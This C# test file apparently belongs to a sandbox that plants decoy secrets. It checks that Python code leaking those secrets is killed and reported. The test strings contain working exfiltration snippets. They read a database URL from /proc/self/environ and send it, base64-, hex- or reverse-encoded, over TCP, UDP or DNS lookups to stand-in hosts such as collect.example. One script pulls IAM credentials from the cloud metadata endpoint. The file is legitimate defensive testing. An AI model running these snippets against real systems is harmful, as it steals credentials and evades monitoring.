using InterpreterGuard.Containment.Tests.Hosting;
using InterpreterGuard.Containment.Tests.Network;

namespace InterpreterGuard.Containment.Tests.Decoys;

/// <summary>A decoy on its way out ends its execution, whether the way leads somewhere or nowhere. Everything goes to listeners of ours on this machine, or into a sinkhole.</summary>
[Collection(BrokerCollection.Name)]
[Trait("needs", "docker")]
public sealed class DecoyUseTests(BrokerHost broker)
{
    // Where it comes from and goes to is told by standard input, so that screening has nothing to say.
    private const string Secret = "import base64, socket\nplace, port, source = input().split()\nvalues = open(source).read()\nsecret = values[values.index('postgresql'):].split(chr(0))[0]\n";

    [Theory]
    [InlineData(BrokerHost.Open, "service.test 80", "service.test port 80")]
    [InlineData(BrokerHost.Open, "203.0.113.5 8080", "203.0.113.5 port 8080")]
    [InlineData(BrokerHost.Hole, "192.0.2.7 443", "192.0.2.7 port 443, a sinkhole")]
    [InlineData(BrokerHost.Hole, "collect.example 80", "collect.example port 80, a sinkhole")]
    public async Task A_value_that_leaves_ends_the_execution(string profile, string place, string target)
    {
        var answer = await RunAsync(profile, place, Secret + "s = socket.create_connection((place, int(port)))\ns.sendall(b'POST /?q=' + base64.urlsafe_b64encode(b'k' + secret.encode()) + b' HTTP/1.1\\r\\nHost: ' + place.encode() + b'\\r\\n\\r\\n')\nimport time\ntime.sleep(10)");

        Assert.Equal("killed", answer.Status);
        var seen = Assert.Single(await SeenAsync(answer));
        Assert.Equal(("database_url", "used", "flow", "base64", target), (seen.Text("decoy"), seen.Text("grade"), seen.Text("channel"), seen.Text("encoding"), seen.Text("target")));
        var incident = await broker.Host.IncidentAsync(answer.Id);
        Assert.Equal("critical", incident!.Value.Text("severity"));
        Assert.StartsWith(
            $"Decoy used: a decoy address of a database from the variable REPORTING_DATABASE_URL left through a connection to {target}, written as base64", incident.Value.Text("summary"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_a_rule_stops_does_not_arrive()
    {
        var before = broker.Http.BytesReceived;

        var answer = await RunAsync(BrokerHost.Open, "service.test 80", Secret + "s = socket.create_connection((place, int(port)))\ns.sendall(secret.encode() * 50)\nimport time\ntime.sleep(10)");

        Assert.Equal("killed", answer.Status);
        Assert.Equal(before, broker.Http.BytesReceived);
    }

    [Fact]
    public async Task A_value_in_pieces_late_in_a_long_stream_is_seen()
    {
        var answer = await RunAsync(BrokerHost.Hole, "192.0.2.7 9000", Secret
            + "s = socket.create_connection((place, int(port)))\ns.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\nfor n in range(40):\n    s.sendall(b'x' * 50_000)\nimport time\nfor letter in secret.encode().hex():\n    s.sendall(letter.encode())\n    time.sleep(0.002)\ntime.sleep(10)");

        Assert.Equal("killed", answer.Status);
        Assert.Contains(await SeenAsync(answer), fact => (fact.Text("grade"), fact.Text("encoding")) == ("used", "hex"));
    }

    [Fact]
    public async Task A_value_in_a_datagram_is_seen()
    {
        var answer = await RunAsync(BrokerHost.Hole, "192.0.2.9 5005", Secret + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(secret[::-1].encode(), (place, int(port)))\nimport time\ntime.sleep(10)");

        Assert.Equal("killed", answer.Status);
        Assert.Contains(await SeenAsync(answer), fact => (fact.Text("grade"), fact.Text("encoding")) == ("used", "reversed"));
    }

    [Theory]
    [InlineData(BrokerHost.Hole, "secret.split(':')[2].split('@')[0][::-1]", "reversed")]
    [InlineData(BrokerHost.Open, "secret.split('@')[1].split(':')[0]", "plain")]
    public async Task A_value_in_a_name_is_seen(string profile, string name, string encoding)
    {
        var answer = await RunAsync(profile, "tunnel.example 80", Secret + $"try:\n    socket.getaddrinfo({name}, 80)\nexcept OSError as e:\n    print(e)\nimport time\ntime.sleep(10)");

        Assert.Equal("killed", answer.Status);
        Assert.Contains(await SeenAsync(answer), fact => (fact.Text("grade"), fact.Text("channel"), fact.Text("encoding")) == ("used", "lookup", encoding));
    }

    [Fact]
    public async Task The_metadata_service_of_a_sinkhole_hands_out_decoys()
    {
        var answer = await RunAsync(BrokerHost.Hole, "169.254.169.254 80", """
            import http.client
            place, port, _ = input().split()
            c = http.client.HTTPConnection(place, int(port), timeout=5)
            def ask(method, path):
                c.request(method, path)
                r = c.getresponse()
                return r.status, r.read().decode()
            print(ask("PUT", "/latest/api/token")[0], ask("GET", "/nothing")[0])
            role = ask("GET", "/latest/meta-data/iam/security-credentials/")[1]
            print(ask("GET", "/latest/meta-data/iam/security-credentials/" + role)[1])
            """);

        Assert.True(answer.Status == "completed", $"{answer}");
        Assert.StartsWith("200 404\n{\"Code\":\"Success\"", answer.Stdout, StringComparison.Ordinal);
        var seen = await SeenAsync(answer);
        Assert.Equal(["read flow", "emitted stdout"], seen.Select(fact => $"{fact.Text("grade")} {fact.Text("channel")}"));
        Assert.All(seen, fact => Assert.Equal("metadata", fact.Text("decoy")));
        Assert.Contains("IG4023", answer.Detections.Select(detection => detection.Text("rule")));
    }

    [Fact]
    public async Task Honest_traffic_is_left_alone()
    {
        var answer = await RunAsync(BrokerHost.Open, "service.test 80", "import urllib.request\nplace = input().split()[0]\nprint(urllib.request.urlopen(f'http://{place}/bytes/200000', data=b'y' * 300_000, timeout=5).read()[:5])");

        Assert.True(answer.Status == "completed", $"{answer}");
        Assert.Empty(await SeenAsync(answer));
        Assert.Null(answer.IncidentId);
    }

    private Task<Answer> RunAsync(string profile, string place, string code) => broker.Host.RunAsync(Submission.Python(code) with { Profile = profile, Stdin = $"{place} /proc/self/environ\n" });

    private Task<IReadOnlyList<System.Text.Json.JsonElement>> SeenAsync(Answer answer) => Flows.FactsAsync(broker.Host, answer, "decoy.seen");
}
